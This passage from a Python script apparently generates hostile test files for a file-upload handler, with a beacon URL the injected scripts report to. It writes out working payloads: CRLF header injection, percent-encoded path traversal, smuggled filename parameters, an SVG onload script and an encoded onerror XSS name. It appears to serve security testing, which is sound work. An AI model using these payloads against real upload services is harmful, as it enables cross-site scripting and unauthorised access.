    named("lines", lambda n: f"a\r\nContent-Type: text/html\r\n\r\n<script>{js(n)}</script>.png", "line breaks, for a header of its own")
    named("percent", lambda n: "a%0d%0aContent-Type:%20text%2fhtml%0d%0a%0d%0a%3Cscript%3E%22.png", "percent signs that would be line breaks")
    named("percent-path", lambda n: "..%2f..%2fadmin%3fx%23y.png", "percent signs that would be a path")
    named("parameter", lambda n: 'a.png"; filename="b.html', "a parameter of its own")
    named("separator", lambda n: "a\u2028b\u2029c\u0085d.html", "odd line breaks and another ending")
    page = lambda n: f"<script>{js(n)}</script>"
    hostile.add("name-html", "txt", page, "file name: plain text called .html", filename="page.html")
    hostile.add("name-svg", "txt", lambda n: f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(n)}"/>', "file name: plain text called .svg", filename="picture.svg")
    hostile.add("name-script", "md", lambda n: js(n), "file name: Markdown called .js", filename="script.js", type="copy")
    hostile.add("name-extended", "png", lambda n: dot, "file name: given twice, encoded", disposition="form-data; name=\"content\"; filename=\"a.png\"; filename*=UTF-8''%3Cimg%20src%3Dx%3A%20onerror%3Dalert(1)%3E.html")


def main():
    global BEACON
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("outdir")
    parser.add_argument("--beacon", required=True, help="what calls home goes there, e.g. http://127.0.0.1:9911/")
    arguments = parser.parse_args()
    BEACON = arguments.beacon
    folder = Folder(arguments.outdir)
    hostile = Hostile(folder)
    for make in (pictures, decks, films, svgs, blogs, copies, bundles, filenames):
        make(hostile)
    folder.finish(20_000_000)
    assert len(folder.entries) >= 100


main()
